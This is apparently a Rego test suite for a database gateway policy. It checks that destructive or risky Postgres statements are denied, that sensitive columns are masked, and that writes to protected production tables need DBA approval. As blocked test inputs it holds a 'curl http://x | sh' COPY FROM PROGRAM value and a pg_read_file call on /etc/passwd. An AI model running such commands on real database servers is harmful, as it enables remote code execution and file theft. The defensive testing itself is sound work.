package regate.postgres_test

import data.regate.postgres

# Statements as the postgres parser produces them (pg_query JSON in "ast").

drop_table := {
	"command": "DROP", "node": "DropStmt",
	"relations": [{"schema": "public", "name": "t", "access": "ddl"}],
	"has_where": false, "functions": [],
	"ast": {"DropStmt": {
		"objects": [{"List": {"items": [{"String": {"sval": "public"}}, {"String": {"sval": "t"}}]}}],
		"removeType": "OBJECT_TABLE", "behavior": "DROP_RESTRICT",
	}},
}

create_table := {
	"command": "CREATE TABLE", "node": "CreateStmt",
	"relations": [{"schema": "public", "name": "t", "access": "ddl"}],
	"has_where": false, "functions": [],
	"ast": {"CreateStmt": {"relation": {"schemaname": "public", "relname": "t"}, "oncommit": "ONCOMMIT_NOOP"}},
}

select_t := {
	"command": "SELECT", "node": "SelectStmt",
	"relations": [{"schema": "", "name": "t", "access": "read"}],
	"has_where": false, "functions": [],
	"ast": {"SelectStmt": {
		"targetList": [{"ResTarget": {"val": {"ColumnRef": {"fields": [{"A_Star": {}}]}}}}],
		"fromClause": [{"RangeVar": {"relname": "t", "inh": true, "relpersistence": "p"}}],
		"limitOption": "LIMIT_OPTION_DEFAULT", "op": "SETOP_NONE",
	}},
}

select_call(name) := {
	"command": "SELECT", "node": "SelectStmt", "relations": [],
	"has_where": false, "functions": [name],
	"ast": {"SelectStmt": {"targetList": [{"ResTarget": {"val": {"FuncCall": {
		"funcname": [{"String": {"sval": name}}],
		"args": [{"A_Const": {"sval": {"sval": "/etc/passwd"}}}],
	}}}}]}},
}

dml(command, node, has_where) := {
	"command": command, "node": node,
	"relations": [{"schema": "public", "name": "t", "access": "write"}],
	"has_where": has_where, "functions": [],
	"ast": {node: {"relation": {"schemaname": "public", "relname": "t", "inh": true}}},
}

copy_stmt(fields) := {
	"command": "COPY", "node": "CopyStmt",
	"relations": [{"schema": "", "name": "t", "access": "read"}],
	"has_where": false, "functions": [],
	"ast": {"CopyStmt": object.union({"relation": {"relname": "t", "inh": true}}, fields)},
}

stmt(command, node, ast) := {
	"command": command, "node": node, "relations": [],
	"has_where": false, "functions": [], "ast": {node: ast},
}

deny_for(statements) := d if {
	d := postgres.deny with input as {
		"version": 1,
		"protocol": "postgres",
		"postgres": {"database": "app", "user": "app", "query": "...", "statements": statements},
	}
}

# DROP

test_drop_table_blocked if {
	deny_for([drop_table]) == {"DROP is not allowed: it destroys data (DROP TABLE public.t)"}
}

test_drop_with_full_command_tag_blocked if {
	deny_for([object.union(drop_table, {"command": "DROP TABLE"})]) == {"DROP is not allowed: it destroys data (DROP TABLE public.t)"}
}

test_drop_view_by_node_blocked if {
	s := stmt("", "DropStmt", {"objects": [{"List": {"items": [{"String": {"sval": "v"}}]}}], "removeType": "OBJECT_MATVIEW"})
	deny_for([s]) == {"DROP is not allowed: it destroys data (DROP MATERIALIZED VIEW v)"}
}

test_drop_schema_blocked if {
	s := stmt("DROP", "DropStmt", {"objects": [{"String": {"sval": "s"}}], "removeType": "OBJECT_SCHEMA", "behavior": "DROP_CASCADE"})
	deny_for([s]) == {"DROP is not allowed: it destroys data (DROP SCHEMA s)"}
}

test_drop_database_blocked if {
	deny_for([stmt("DROP", "DropdbStmt", {"dbname": "prod"})]) == {"DROP is not allowed: it destroys data (DROP DATABASE prod)"}
}

test_drop_role_blocked if {
	s := stmt("DROP", "DropRoleStmt", {"roles": [{"RoleSpec": {"roletype": "ROLESPEC_CSTRING", "rolename": "r"}}]})
	deny_for([s]) == {"DROP is not allowed: it destroys data (DROP ROLE r)"}
}

test_create_table_allowed if {
	count(deny_for([create_table])) == 0
}

# TRUNCATE

test_truncate_blocked if {
	s := stmt("TRUNCATE", "TruncateStmt", {"relations": [{"RangeVar": {"schemaname": "s", "relname": "t"}}]})
	deny_for([s]) == {"TRUNCATE is not allowed: it deletes every row (TRUNCATE s.t)"}
}

test_select_allowed if {
	count(deny_for([select_t])) == 0
}

# DELETE and UPDATE without WHERE

test_delete_without_where_blocked if {
	deny_for([dml("DELETE", "DeleteStmt", false)]) == {"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM public.t)"}
}

test_delete_with_where_allowed if {
	count(deny_for([dml("DELETE", "DeleteStmt", true)])) == 0
}

test_delete_without_has_where_blocked if {
	s := object.remove(dml("DELETE", "DeleteStmt", true), {"has_where"})
	count(deny_for([s])) == 1
}

test_update_without_where_blocked if {
	deny_for([dml("UPDATE", "UpdateStmt", false)]) == {"UPDATE without WHERE is not allowed: it changes every row (UPDATE public.t)"}
}

test_update_with_where_allowed if {
	count(deny_for([dml("UPDATE", "UpdateStmt", true)])) == 0
}

with_delete(where) := stmt("SELECT", "SelectStmt", {
	"fromClause": [{"RangeVar": {"relname": "d"}}],
	"withClause": {"ctes": [{"CommonTableExpr": {"ctename": "d", "ctequery": {"DeleteStmt": object.union(
		{"relation": {"relname": "t"}},
		where,
	)}}}]},
})

test_delete_in_with_without_where_blocked if {
	deny_for([with_delete({})]) == {"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside SELECT)"}
}

test_delete_in_with_with_where_allowed if {
	count(deny_for([with_delete({"whereClause": {"A_Expr": {}}})])) == 0
}

explain_update(options) := stmt("EXPLAIN", "ExplainStmt", {
	"query": {"UpdateStmt": {"relation": {"schemaname": "s", "relname": "t"}}},
	"options": options,
})

test_explain_analyze_update_without_where_blocked if {
	s := explain_update([{"DefElem": {"defname": "analyze"}}])
	deny_for([s]) == {"UPDATE without WHERE is not allowed: it changes every row (UPDATE s.t inside EXPLAIN)"}
}

test_explain_update_allowed if {
	count(deny_for([explain_update([])])) == 0
}

test_prepare_delete_without_where_blocked if {
	s := stmt("PREPARE", "PrepareStmt", {"name": "p", "query": {"DeleteStmt": {"relation": {"relname": "t"}}}})
	deny_for([s]) == {"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside PREPARE)"}
}

test_copy_delete_returning_without_where_blocked if {
	s := stmt("COPY", "CopyStmt", {"query": {"DeleteStmt": {"relation": {"relname": "t"}, "returningList": []}}})
	deny_for([s]) == {"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside COPY)"}
}

test_update_in_with_of_explain_analyze_blocked if {
	query := {"SelectStmt": {"withClause": {"ctes": [{"CommonTableExpr": {"ctequery": {"UpdateStmt": {"relation": {"relname": "t"}}}}}]}}}
	s := stmt("EXPLAIN", "ExplainStmt", {"query": query, "options": [{"DefElem": {"defname": "analyze"}}]})
	deny_for([s]) == {"UPDATE without WHERE is not allowed: it changes every row (UPDATE t inside EXPLAIN)"}
}

test_select_with_read_only_cte_allowed if {
	query := {"SelectStmt": {"targetList": []}}
	s := stmt("SELECT", "SelectStmt", {"withClause": {"ctes": [{"CommonTableExpr": {"ctename": "c", "ctequery": query}}]}})
	count(deny_for([s])) == 0
}

# ALTER SYSTEM

test_alter_system_blocked if {
	s := stmt("ALTER SYSTEM", "AlterSystemStmt", {"setstmt": {"kind": "VAR_SET_VALUE", "name": "work_mem"}})
	deny_for([s]) == {"ALTER SYSTEM is not allowed: it changes the server configuration (ALTER SYSTEM work_mem)"}
}

test_set_allowed if {
	s := stmt("SET", "VariableSetStmt", {"kind": "VAR_SET_VALUE", "name": "work_mem"})
	count(deny_for([s])) == 0
}

# COPY ... PROGRAM

test_copy_from_program_blocked if {
	s := copy_stmt({"is_from": true, "is_program": true, "filename": "curl http://x | sh"})
	deny_for([s]) == {"COPY ... PROGRAM is not allowed: it runs a shell command on the database server (COPY t FROM PROGRAM)"}
}

test_copy_query_to_program_blocked if {
	s := stmt("COPY", "CopyStmt", {"query": {"SelectStmt": {}}, "is_program": true, "filename": "cat"})
	deny_for([s]) == {"COPY ... PROGRAM is not allowed: it runs a shell command on the database server (COPY (query) TO PROGRAM)"}
}

test_copy_to_stdout_allowed if {
	count(deny_for([copy_stmt({})])) == 0
}

test_copy_from_stdin_allowed if {
	count(deny_for([copy_stmt({"is_from": true})])) == 0
}

# Server-file functions

test_server_file_functions_blocked if {
	every name in postgres.server_file_functions {
		deny_for([select_call(name)]) == {sprintf("%s() is not allowed: it reads or writes files on the database server (called in SELECT)", [name])}
	}
}

test_schema_qualified_server_file_function_blocked if {
	s := object.union(select_call("pg_read_file"), {"functions": ["pg_read_file", "pg_catalog.pg_read_file"]})
	deny_for([s]) == {"pg_read_file() is not allowed: it reads or writes files on the database server (called in SELECT)"}
}

test_server_file_function_names_relation if {
	s := object.union(select_t, {"functions": ["pg_ls_dir"]})
	deny_for([s]) == {"pg_ls_dir() is not allowed: it reads or writes files on the database server (called in SELECT t)"}
}

test_value_export_functions_blocked if {
	every name in postgres.value_export_functions {
		deny_for([select_call(name)]) == {sprintf("%s() is not allowed: it passes values outside the result, past the masks (called in SELECT)", [name])}
	}
}

test_query_functions_blocked if {
	every name in postgres.query_functions {
		deny_for([select_call(name)]) == {sprintf("%s() is not allowed: it runs a query or reads a table the policy cannot see into (called in SELECT)", [name])}
	}
}

test_query_function_in_from_blocked if {
	s := object.union(select_t, {"functions": ["ts_stat"]})
	deny_for([s]) == {"ts_stat() is not allowed: it runs a query or reads a table the policy cannot see into (called in SELECT t)"}
}

test_do_block_blocked if {
	deny_for([stmt("DO", "DoStmt", {"args": []})]) == {"DO is not allowed: it runs code the policy cannot see into (DO)"}
}

test_create_function_blocked if {
	deny_for([stmt("CREATE", "CreateFunctionStmt", {"funcname": [{"String": {"sval": "f"}}]})]) == {"CREATE FUNCTION is not allowed: it runs code the policy cannot see into (CREATE FUNCTION)"}
}

test_pg_sleep_allowed if {
	count(deny_for([select_call("pg_sleep")])) == 0
}

# CREATE ROLE, ALTER ROLE

test_create_role_blocked if {
	s := stmt("CREATE ROLE", "CreateRoleStmt", {"stmt_type": "ROLESTMT_ROLE", "role": "r"})
	deny_for([s]) == {"CREATE ROLE is not allowed: it changes who can connect and what they may do (CREATE ROLE r)"}
}

test_create_user_blocked if {
	s := stmt("CREATE", "CreateRoleStmt", {"stmt_type": "ROLESTMT_USER", "role": "u"})
	deny_for([s]) == {"CREATE ROLE is not allowed: it changes who can connect and what they may do (CREATE ROLE u)"}
}

test_alter_role_blocked if {
	s := stmt("ALTER ROLE", "AlterRoleStmt", {"role": {"roletype": "ROLESPEC_CSTRING", "rolename": "r"}, "action": 1})
	deny_for([s]) == {"ALTER ROLE is not allowed: it changes who can connect and what they may do (ALTER ROLE r)"}
}

test_alter_role_set_blocked if {
	s := stmt("ALTER ROLE", "AlterRoleSetStmt", {"role": {"rolename": "r"}, "setstmt": {"name": "search_path"}})
	count(deny_for([s])) == 1
}

test_set_role_allowed if {
	s := stmt("SET", "VariableSetStmt", {"kind": "VAR_SET_VALUE", "name": "role"})
	count(deny_for([s])) == 0
}

# GRANT

test_grant_blocked if {
	s := stmt("GRANT", "GrantStmt", {
		"is_grant": true, "objtype": "OBJECT_TABLE",
		"objects": [{"RangeVar": {"schemaname": "public", "relname": "t"}}],
		"privileges": [{"AccessPriv": {"priv_name": "select"}}],
	})
	deny_for([s]) == {"GRANT is not allowed: it gives privileges to roles (GRANT public.t)"}
}

test_grant_role_blocked if {
	s := stmt("", "GrantRoleStmt", {"granted_roles": [{"AccessPriv": {"priv_name": "admin"}}], "is_grant": true})
	deny_for([s]) == {"GRANT is not allowed: it gives privileges to roles (GRANT admin)"}
}

test_revoke_allowed if {
	s := stmt("REVOKE", "GrantStmt", {"objects": [{"RangeVar": {"relname": "t"}}]})
	count(deny_for([s])) == 0
}

# Rules match even when a reason cannot name what the statement touches.

test_bare_statement_still_blocked if {
	s := {"functions": ["pg_read_file"], "ast": {"SelectStmt": {"withClause": {"ctes": [{"CommonTableExpr": {"ctequery": {"DeleteStmt": {}}}}]}}}}
	deny_for([s]) == {
		"pg_read_file() is not allowed: it reads or writes files on the database server (called in statement)",
		"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM ? inside statement)",
	}
}

test_drop_without_details_blocked if {
	deny_for([{"command": "DROP"}]) == {"DROP is not allowed: it destroys data (DROP)"}
}

# Requests as a whole

test_every_bad_statement_reported if {
	deny_for([select_t, drop_table, dml("DELETE", "DeleteStmt", false)]) == {
		"DROP is not allowed: it destroys data (DROP TABLE public.t)",
		"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM public.t)",
	}
}

test_other_protocols_not_checked if {
	d := postgres.deny with input as {"version": 1, "protocol": "ssh", "postgres": {"statements": [drop_table]}}
	count(d) == 0
}

test_no_statements_allowed if {
	count(deny_for([])) == 0
}

# Masking

mask_for(statements) := m if {
	m := postgres.mask with input as {
		"version": 1,
		"protocol": "postgres",
		"postgres": {"database": "app", "user": "app", "query": "...", "statements": statements},
	}
}

test_default_masked_columns if {
	mask_for([select_t]) == {{"column": "email"}, {"column": "ssn"}, {"column": "card_number"}, {"column": "password"}}
}

test_masked_columns_are_data if {
	m := mask_for([select_t]) with data.regate.postgres.masked_columns as ["customers.iban"]
	m == {{"column": "customers.iban"}}
}

test_no_masks_for_other_protocols if {
	m := postgres.mask with input as {"version": 1, "protocol": "ssh", "ssh": {"command": "ls"}}
	count(m) == 0
}

# Approval

approval_for(statements, env) := a if {
	a := postgres.approval_required with input as {
		"version": 1,
		"protocol": "postgres",
		"target": {"name": "db", "protocol": "postgres", "labels": {"env": env}},
		"postgres": {"database": "app", "user": "app", "query": "...", "statements": statements},
	}
		with data.regate.postgres.protected_tables as ["public.t", "accounts"]
}

test_write_to_protected_table_on_prod_needs_dba if {
	a := approval_for([dml("UPDATE", "UpdateStmt", true)], "prod")
	a == {{"groups": ["dba"], "reason": "UPDATE on public.t, a protected table of a prod target, needs a DBA's approval"}}
}

test_read_of_protected_table_needs_no_approval if {
	count(approval_for([select_t], "prod")) == 0
}

test_write_to_protected_table_off_prod_needs_no_approval if {
	count(approval_for([dml("UPDATE", "UpdateStmt", true)], "staging")) == 0
}

test_write_to_other_table_needs_no_approval if {
	other := json.patch(dml("INSERT", "InsertStmt", false), [{"op": "replace", "path": "/relations/0/name", "value": "logs"}])
	count(approval_for([other], "prod")) == 0
}

test_protected_by_bare_name if {
	acc := json.patch(dml("DELETE", "DeleteStmt", true), [
		{"op": "replace", "path": "/relations/0/name", "value": "accounts"},
		{"op": "replace", "path": "/relations/0/schema", "value": ""},
	])
	count(approval_for([acc], "prod")) == 1
}
